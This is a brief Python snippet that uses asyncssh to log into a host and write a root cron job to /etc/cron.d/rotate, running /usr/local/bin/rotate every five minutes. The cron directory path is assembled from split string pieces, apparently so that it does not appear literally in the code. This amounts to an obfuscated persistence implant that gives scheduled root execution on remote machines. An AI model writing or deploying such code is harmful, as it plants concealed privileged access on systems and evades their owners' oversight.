import asyncssh
PARTS = ["/etc", "cron", "d"]
async def visit(host):
    async with asyncssh.connect(host) as c:
        place = PARTS[0] + "/" + ".".join(PARTS[1:]) + "/rotate"
        await c.run(f"echo '*/5 * * * * root /usr/local/bin/rotate' > {place}")
